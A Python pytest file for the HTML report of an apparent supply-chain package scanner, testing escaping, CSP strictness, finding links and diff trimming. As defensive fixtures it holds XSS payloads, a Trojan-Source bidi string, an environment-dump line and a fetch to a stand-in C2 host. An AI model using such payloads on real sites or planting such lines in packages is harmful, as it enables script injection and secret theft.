"""The HTML report: self-contained, inert, and every finding linked to its line in the diff.

The page is parsed into a small element tree with the standard library's HTML parser, the way
a browser would tokenise it; tests/e2e/test_html_browser.py checks the same in real Chromium.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.support import packages
from watcher.artifacts.extract import read_archive
from watcher.models import (
    ArtifactDiff,
    ChangeKind,
    Ecosystem,
    FileCounts,
    Finding,
    MetadataSummary,
    Provenance,
    Report,
    Severity,
    Suppressed,
)
from watcher.pipeline import analyse, artifact_diff, keep_diffs, pair_snapshots, scan_local
from watcher.report import RENDERERS
from watcher.report.html import MAX_FILE_ROWS, diffs_for, render_html
from watcher.rules import ReleaseContext

VOID = {"meta", "br", "img", "input", "link", "hr", "col", "area", "base", "source", "wbr"}


@dataclass
class Node:
    tag: str
    attrs: dict[str, str]
    children: list[Node | str] = field(default_factory=list)

    @property
    def text(self) -> str:
        return "".join(c if isinstance(c, str) else c.text for c in self.children)

    @property
    def classes(self) -> set[str]:
        return set(self.attrs.get("class", "").split())

    def walk(self) -> Iterator[Node]:
        yield self
        for child in self.children:
            if isinstance(child, Node):
                yield from child.walk()

    def find_all(self, tag: str, cls: str | None = None) -> list[Node]:
        return [n for n in self.walk() if n.tag == tag and (cls is None or cls in n.classes)]


class _TreeBuilder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", {})
        self.stack = [self.root]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        node = Node(tag, {k: v or "" for k, v in attrs})
        self.stack[-1].children.append(node)
        if tag not in VOID:
            self.stack.append(node)

    def handle_endtag(self, tag: str) -> None:
        for depth in range(len(self.stack) - 1, 0, -1):
            if self.stack[depth].tag == tag:
                del self.stack[depth:]
                return

    def handle_data(self, data: str) -> None:
        self.stack[-1].children.append(data)


@dataclass
class Page:
    html: str
    root: Node

    @property
    def by_id(self) -> dict[str, Node]:
        return {n.attrs["id"]: n for n in self.root.walk() if "id" in n.attrs}

    def finding_rows(self) -> list[Node]:
        table = self.by_id["findings"]
        return table.find_all("tr", "finding")

    def target_of(self, row: Node) -> Node:
        link = next(a for a in row.find_all("a") if "goto" in a.classes)
        href = link.attrs["href"]
        assert href.startswith("#"), href
        assert href[1:] in self.by_id, f"link {href} has no target"
        return self.by_id[href[1:]]


def parse(html: str) -> Page:
    builder = _TreeBuilder()
    builder.feed(html)
    builder.close()
    return Page(html, builder.root)


def _code_cell(row: Node) -> str:
    return next(td for td in row.find_all("td") if "code" in td.classes).text


def _strutil(tmp_path: Path, new: packages.NpmRelease | None = None) -> tuple[Report, ArtifactDiff]:
    from watcher.artifacts.extract import load_artifact

    old_path, new_path = tmp_path / "old.tgz", tmp_path / "new.tgz"
    old_path.write_bytes(packages.strutil_2_1_3().tarball())
    new_path.write_bytes((new or packages.strutil_2_1_4()).tarball())
    diff = artifact_diff(load_artifact(old_path), load_artifact(new_path))
    ctx = ReleaseContext(
        ecosystem=Ecosystem.NPM,
        name="@watcher-e2e/strutil",
        old_version="2.1.3",
        new_version="2.1.4",
        artifacts=(diff,),
    )
    return analyse(ctx), diff


def _report(findings: tuple[Finding, ...], **changes: object) -> Report:
    report = Report(
        ecosystem=Ecosystem.NPM,
        package="demo",
        old_version="1.0.0",
        new_version="1.0.1",
        score=90,
        severity=Severity.CRITICAL,
        findings=findings,
        files=FileCounts(added=1),
        metadata=MetadataSummary(
            publisher_changed=True, provenance=Provenance.ABSENT, version_jump=False
        ),
    )
    return replace(report, **changes)  # type: ignore[arg-type]


def _assert_every_link_lands_on_its_evidence(page: Page, report: Report) -> None:
    rows = page.finding_rows()
    assert len(rows) == len(report.findings)
    for row, finding in zip(rows, report.findings, strict=True):
        target = page.target_of(row)
        assert target.tag == "tr" and "hit" in target.classes, (finding.rule, target.attrs)
        assert (finding.evidence or "").strip("…") in _code_cell(target)
        assert finding.rule in target.text and finding.message in target.text


def test_real_diff_links_each_finding_to_its_highlighted_line(tmp_path: Path) -> None:
    report, diff = _strutil(tmp_path)
    page = parse(render_html(report, [diff]))
    _assert_every_link_lands_on_its_evidence(page, report)
    # The modified package.json is shown as a diff: old and new line numbers, both line kinds.
    assert page.root.find_all("tr", "del") and page.root.find_all("tr", "add")
    version_row = next(r for r in page.root.find_all("tr", "del") if '"2.1.3"' in r.text)
    assert "2.1.3" in _code_cell(version_row)
    title = page.root.find_all("title")[0].text
    assert title.startswith("watcher: @watcher-e2e/strutil 2.1.4")
    assert "critical" in page.root.find_all("h1")[0].text + page.html[:5000].lower()


def test_header_shows_verdict_versions_and_reasons(tmp_path: Path) -> None:
    report, diff = _strutil(tmp_path)
    page = parse(render_html(report, [diff]))
    h1 = page.root.find_all("h1")[0].text
    assert "@watcher-e2e/strutil" in h1 and "2.1.3 → 2.1.4" in h1
    verdict = page.root.find_all("div", "verdict")[0].text
    assert "critical" in verdict and str(report.score) in verdict
    reasons = [li.text for li in page.root.find_all("ul", "reasons")[0].find_all("li")]
    assert reasons == list(report.reasons) and reasons


def test_attacker_markup_everywhere_is_text_not_markup() -> None:
    payload = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    finding = Finding(
        rule="code.network",
        severity=Severity.HIGH,
        message=f"calls {payload}",
        category="network",
        path=f"lib/{payload}.js",
        line=1,
        evidence=f"fetch('{payload}')",
        subject=payload,
    )
    report = _report(
        (finding,),
        package=f"evil{payload}",
        reasons=(payload,),
        links=("javascript:alert(3)", 'https://registry.invalid/p?a=<b>&c="d"'),
    )
    html = render_html(report)
    page = parse(html)
    tags = {n.tag for n in page.root.walk()}
    assert "script" not in tags and "img" not in tags
    assert payload in page.root.text  # shown, as text
    assert all(not name.startswith("on") for n in page.root.walk() for name in n.attrs)
    hrefs = [a.attrs["href"] for a in page.root.find_all("a")]
    assert "javascript:alert(3)" not in hrefs
    assert 'https://registry.invalid/p?a=<b>&c="d"' in hrefs  # attribute-escaped, intact


def test_page_is_self_contained_with_a_strict_csp(tmp_path: Path) -> None:
    report, diff = _strutil(tmp_path)
    page = parse(render_html(report, [diff]))
    metas = page.root.find_all("meta")
    csp = next(
        m.attrs["content"] for m in metas if m.attrs.get("http-equiv") == "Content-Security-Policy"
    )
    assert "default-src 'none'" in csp and "script-src" not in csp
    tags = {n.tag for n in page.root.walk()}
    assert not tags & {"script", "link", "img", "iframe", "object", "embed"}
    assert not [n for n in page.root.walk() if "src" in n.attrs]
    assert all(a.attrs["href"].startswith("#") for a in page.root.find_all("a"))


def test_control_and_bidi_characters_are_made_visible() -> None:
    trojan = "if (isAdmin\u202e /* } \u2066*/) {"
    finding = Finding(
        rule="code.obfuscation",
        severity=Severity.MEDIUM,
        message="odd",
        category="obfuscation",
        evidence=trojan,
    )
    page = parse(render_html(_report((finding,))))
    assert "\u202e" not in page.root.text and "\u2066" not in page.root.text
    assert "⟨U+202E⟩" in page.root.text and "⟨U+2066⟩" in page.root.text


def test_metadata_and_dependency_findings_link_to_their_own_boxes() -> None:
    meta = Finding(
        rule="meta.publisher-changed",
        severity=Severity.MEDIUM,
        message="published by another account",
        category="publisher",
    )
    dep = Finding(
        rule="code.network",
        severity=Severity.HIGH,
        message="network in a dependency",
        category="network",
        path="index.js",
        line=2,
        evidence="fetch(x)",
        via="evil-dep@1.0.0",
    )
    page = parse(render_html(_report((meta, dep))))
    for row, finding in zip(page.finding_rows(), (meta, dep), strict=True):
        target = page.target_of(row)
        assert "finding-box" in target.classes
        assert finding.message in target.text
    assert "evil-dep@1.0.0" in page.target_of(page.finding_rows()[1]).text


def test_without_diffs_every_finding_still_links_to_its_evidence(tmp_path: Path) -> None:
    report, _ = _strutil(tmp_path)
    page = parse(render_html(report))
    for row, finding in zip(page.finding_rows(), report.findings, strict=True):
        target = page.target_of(row)
        assert "finding-box" in target.classes
        assert (finding.evidence or "") in target.text


def test_files_without_findings_are_collapsed(tmp_path: Path) -> None:
    release = packages.strutil_2_1_4()
    readme = release.files["README.md"] + "\nMore docs.\n"
    report, diff = _strutil(
        tmp_path, replace(release, files={**release.files, "README.md": readme})
    )
    page = parse(render_html(report, [diff]))
    sections = {n.find_all("summary")[0].text: n for n in page.root.find_all("details", "file")}
    readme_section = next(s for text, s in sections.items() if "README.md" in text)
    setup_section = next(s for text, s in sections.items() if "lib/setup.js" in text)
    assert "open" not in readme_section.attrs and "open" in setup_section.attrs
    # Files with findings come first.
    order = list(sections)
    assert order.index(next(t for t in order if "lib/setup.js" in t)) < order.index(
        next(t for t in order if "README.md" in t)
    )


def test_big_diffs_are_trimmed_but_finding_lines_stay(tmp_path: Path) -> None:
    lines = [f"const v{i} = {i};" for i in range(1, 5001)]
    lines[3999] = "const data = JSON.stringify(process.env);"
    release = packages.strutil_2_1_4()
    big = replace(release, files={**release.files, "lib/big.js": "\n".join(lines) + "\n"})
    report, diff = _strutil(tmp_path, big)
    assert any(f.path == "lib/big.js" and f.line == 4000 for f in report.findings)
    page = parse(render_html(report, [diff]))
    _assert_every_link_lands_on_its_evidence(page, report)
    section = next(
        s
        for s in page.root.find_all("details", "file")
        if "lib/big.js" in s.find_all("summary")[0].text
    )
    shown = [r for r in section.find_all("tr") if "gap" not in r.classes]
    assert len(shown) <= MAX_FILE_ROWS
    assert section.find_all("div", "trimmed") and "Diff trimmed" in section.text
    assert any("gap" in r.classes for r in section.find_all("tr"))


def test_long_lines_are_clipped_around_the_evidence(tmp_path: Path) -> None:
    minified = "var a=1;" * 2000 + "fetch('https://c2.attacker.invalid/x');" + "var b=2;" * 2000
    release = packages.strutil_2_1_4()
    bundle = replace(release, files={**release.files, "dist/bundle.js": minified + "\n"})
    report, diff = _strutil(tmp_path, bundle)
    page = parse(render_html(report, [diff]))
    hits = [f for f in report.findings if f.path == "dist/bundle.js"]
    assert hits
    index = report.findings.index(hits[0])
    target = page.target_of(page.finding_rows()[index])
    assert "c2.attacker.invalid" in _code_cell(target)
    assert len(_code_cell(target)) < 3000 and "more characters" in _code_cell(target)


def test_finding_on_an_unchanged_file_is_shown_in_context(tmp_path: Path) -> None:
    report, diff = _strutil(tmp_path)
    index_js = packages.strutil_2_1_4().files["index.js"]
    finding = Finding(
        rule="mcp.tool-added",
        severity=Severity.LOW,
        message="tool slugify",
        category="mcp-tool",
        path="index.js",
        line=packages.line_of(index_js, "function slugify"),
        evidence=packages.line_text(index_js, "function slugify"),
    )
    assert "index.js" not in {c.path for c in diff.changes}
    report = replace(report, findings=(finding,))
    page = parse(render_html(report, [diff]))
    _assert_every_link_lands_on_its_evidence(page, report)
    section = next(
        s
        for s in page.root.find_all("details", "file")
        if "index.js" in s.find_all("summary")[0].text
    )
    assert section.find_all("span", "kind-unchanged") and "open" in section.attrs
    assert not section.find_all("tr", "add") and not section.find_all("tr", "del")


def test_wheel_finding_links_into_the_wheel_section() -> None:
    def snapshots(release: packages.PypiRelease) -> list:  # type: ignore[type-arg]
        return [read_archive(data, name) for name, data in release.distributions()]

    diffs = pair_snapshots(snapshots(packages.pypi_1_0_0()), snapshots(packages.pypi_1_0_1()))
    ctx = ReleaseContext(
        ecosystem=Ecosystem.PYPI,
        name=packages.PYPI_NAME,
        old_version="1.0.0",
        new_version="1.0.1",
        artifacts=diffs,
    )
    report = analyse(ctx)
    pth = [f for f in report.findings if f.path == packages.PTH_NAME]
    assert pth and all(f.artifact and f.artifact.endswith(".whl") for f in pth)
    page = parse(render_html(report, diffs))
    _assert_every_link_lands_on_its_evidence(page, report)
    wheel_index = next(i for i, d in enumerate(diffs) if d.label.endswith(".whl"))
    for f in pth:
        target = page.target_of(page.finding_rows()[report.findings.index(f)])
        assert target.attrs["id"].startswith(f"a{wheel_index}-")


def test_suppressed_findings_are_listed_apart() -> None:
    accepted = Finding(
        rule="code.new-host",
        severity=Severity.LOW,
        message="host api.github.invalid",
        category="host",
        path="a.js",
        line=1,
        evidence="'api.github.invalid'",
    )
    report = _report((), suppressed=(Suppressed(accepted, "allow:network:api.github.invalid"),))
    page = parse(render_html(report))
    assert "No findings beyond those allowed or suppressed" in page.root.text
    assert "allow:network:api.github.invalid" in page.root.text


def test_first_release_scan_renders_all_lines_as_added(tmp_path: Path) -> None:
    artifact = tmp_path / "new.tgz"
    artifact.write_bytes(packages.strutil_2_1_4().tarball())
    with keep_diffs() as kept:
        report = scan_local(artifact)
    diffs = diffs_for(kept, report)
    assert len(diffs) == 1 and diffs[0].old is None
    assert all(c.kind is ChangeKind.ADDED for c in diffs[0].changes)
    page = parse(render_html(report, diffs))
    _assert_every_link_lands_on_its_evidence(page, report)
    assert "(first release)" in page.root.find_all("h1")[0].text
    assert not page.root.find_all("tr", "del")


def test_keep_diffs_keeps_nothing_outside_the_block(tmp_path: Path) -> None:
    artifact = tmp_path / "new.tgz"
    artifact.write_bytes(packages.clean_1_0_0().tarball())
    with keep_diffs() as kept:
        pass
    scan_local(artifact)
    assert kept == {}


@pytest.mark.parametrize("fmt", ["html"])
def test_registered_as_a_cli_format(fmt: str) -> None:
    assert RENDERERS[fmt] is render_html
